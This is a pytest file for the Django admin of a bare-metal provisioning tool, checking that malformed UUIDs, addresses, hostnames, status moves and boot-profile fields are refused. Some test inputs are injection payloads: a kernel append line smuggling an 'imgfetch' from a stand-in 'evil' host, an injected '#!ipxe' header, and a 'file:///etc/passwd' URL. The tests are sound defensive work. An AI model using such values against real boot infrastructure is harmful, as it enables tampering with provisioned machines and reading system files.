"""Bad input in the admin forms gets a clear error and changes nothing."""

import pytest
from django.urls import reverse

from bearman.models import Baremetal, Event, EventKind, Node, Profile
from bearman.states import DeployStatus, NodeStatus
from tests.factories import BaremetalFactory, NodeFactory, ProfileFactory

pytestmark = pytest.mark.django_db


def node_form(**overrides) -> dict:
    form = {
        "uuid": "4C4C4544-0042-3510-8052-B3C04F4B4C32",
        "serial": "CZ1234",
        "vendor": "HPE",
        "product_name": "ProLiant DL360 Gen10",
        "status": "registered",
        "availability_zone": "az1",
        "bmc_driver": "ipmi",
        "bmc_address": "",
        "bmc_port": 623,
        "bmc_username": "",
    }
    return {**form, **overrides}


def profile_form(**overrides) -> dict:
    form = {
        "name": "debian-12",
        "description": "",
        "boot_method": "kexec",
        "kernel_url": "http://images.example.test/vmlinuz",
        "kernel_sha256": "",
        "initrd_url": "",
        "initrd_sha256": "",
        "append": "console=ttyS0",
        "install_script": "",
    }
    return {**form, **overrides}


def errors_of(response) -> str:
    assert response.status_code == 200, "the form should be shown again with errors"
    return " ".join(str(e) for e in response.context["errors"])


def test_adding_a_node_with_a_dmidecode_uuid_stores_it_canonical(admin_client):
    response = admin_client.post(reverse("admin:bearman_node_add"), node_form())
    assert response.status_code == 302
    assert Node.objects.get().uuid == "4c4c4544-0042-3510-8052-b3c04f4b4c32"


def test_bad_uuid_is_refused(admin_client):
    response = admin_client.post(reverse("admin:bearman_node_add"), node_form(uuid="r640-07"))
    assert "r640-07 is not a system UUID" in errors_of(response)
    assert not Node.objects.exists()


def test_bad_ipmi_address_is_refused(admin_client):
    response = admin_client.post(
        reverse("admin:bearman_node_add"), node_form(bmc_address="10.0.0.300")
    )
    assert "valid IPv4 or IPv6 address" in errors_of(response)
    assert not Node.objects.exists()


@pytest.mark.parametrize(
    "append",
    ["console=ttyS0\nimgfetch http://evil/x", "console=ttyS0\r\nboot", "a\tb"],
)
def test_multi_line_append_is_refused(admin_client, append):
    response = admin_client.post(reverse("admin:bearman_profile_add"), profile_form(append=append))
    assert "Must be a single line" in errors_of(response)
    assert not Profile.objects.exists()


def test_editing_a_profile_with_a_bad_append_keeps_the_old_one(admin_client):
    profile = ProfileFactory(append="quiet")
    url = reverse("admin:bearman_profile_change", args=[profile.pk])
    response = admin_client.post(url, profile_form(name=profile.name, append="quiet\n#!ipxe"))
    assert "Must be a single line" in errors_of(response)
    assert Profile.objects.get(pk=profile.pk).append == "quiet"


def test_bad_kernel_url_and_checksum_are_refused(admin_client):
    response = admin_client.post(
        reverse("admin:bearman_profile_add"),
        profile_form(kernel_url="file:///etc/passwd", kernel_sha256="abc"),
    )
    errors = errors_of(response)
    assert "Enter a valid URL" in errors and "64 lowercase hex digits" in errors
    assert not Profile.objects.exists()


@pytest.mark.parametrize("hostname", ["web_01", "-web01", "web01 .example.com", "a" * 64])
def test_bad_hostname_is_refused(admin_client, hostname):
    node, profile = NodeFactory(), ProfileFactory()
    response = admin_client.post(
        reverse("admin:bearman_baremetal_add"),
        {"node": node.pk, "profile": profile.pk, "hostname": hostname, "vlan": ""},
    )
    assert "not a valid hostname (RFC 1123)" in errors_of(response)
    assert not Baremetal.objects.exists()


def test_a_baremetal_created_in_the_admin_starts_and_is_logged(admin_client):
    node, profile = NodeFactory(), ProfileFactory()
    response = admin_client.post(
        reverse("admin:bearman_baremetal_add"),
        {"node": node.pk, "profile": profile.pk, "hostname": "web01.example.test", "vlan": "120"},
    )
    assert response.status_code == 302
    baremetal = Baremetal.objects.get()
    assert (baremetal.status, baremetal.vlan) == (DeployStatus.DEPLOY_START, 120)
    assert "Baremetal web01.example.test of profile" in node.events.get().message


def test_illegal_node_status_move_is_refused(admin_client):
    node = NodeFactory(status=NodeStatus.RETIRED, serial="OLD1")
    url = reverse("admin:bearman_node_change", args=[node.pk])
    response = admin_client.post(
        url, node_form(status="ready", serial="NEW1", bmc_address=node.bmc_address)
    )
    assert "Cannot go from Retired to Ready. Allowed from Retired: Maintenance." in errors_of(
        response
    )
    stored = Node.objects.get(pk=node.pk)
    assert (stored.status, stored.serial) == (NodeStatus.RETIRED, "OLD1")
    assert not Event.objects.exists()


def test_legal_node_status_move_goes_through_the_state_machine(admin_client):
    node = NodeFactory()
    url = reverse("admin:bearman_node_change", args=[node.pk])
    response = admin_client.post(
        url, node_form(status="maintenance", serial=node.serial, bmc_address=node.bmc_address)
    )
    assert response.status_code == 302
    assert Node.objects.get(pk=node.pk).status == NodeStatus.MAINTENANCE
    event = node.events.get(kind=EventKind.NODE_STATUS)
    assert (event.actor, event.data) == ("admin", {"from": "registered", "to": "maintenance"})


def test_illegal_baremetal_status_move_is_refused(admin_client):
    baremetal = BaremetalFactory()
    url = reverse("admin:bearman_baremetal_change", args=[baremetal.pk])
    response = admin_client.post(
        url, {"status": "installed", "hostname": baremetal.hostname, "vlan": ""}
    )
    assert "Cannot go from Deploy start to Installed" in errors_of(response)
    assert Baremetal.objects.get(pk=baremetal.pk).status == DeployStatus.DEPLOY_START


def test_events_are_read_only(admin_client):
    node = NodeFactory()
    from bearman.services import event_record

    event = event_record(node=node, kind="note", message="racked in r12", actor="alice")
    assert (
        admin_client.get(reverse("admin:bearman_event_change", args=[event.pk])).status_code == 200
    )
    assert (
        admin_client.post(
            reverse("admin:bearman_event_change", args=[event.pk]), {"message": "x"}
        ).status_code
        == 403
    )
    assert admin_client.get(reverse("admin:bearman_event_add")).status_code == 403
    assert Event.objects.get().message == "racked in r12"
